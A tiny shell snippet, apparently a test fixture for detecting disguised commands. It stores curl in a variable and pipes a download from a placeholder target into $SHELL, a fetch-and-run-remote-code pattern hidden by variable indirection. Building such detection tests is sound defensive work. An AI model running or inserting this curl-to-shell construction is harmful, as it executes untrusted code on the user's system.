C=curl
FLAGS="-s x"
A=b $C -s
"${C}" y | $SHELL
$FLAGS
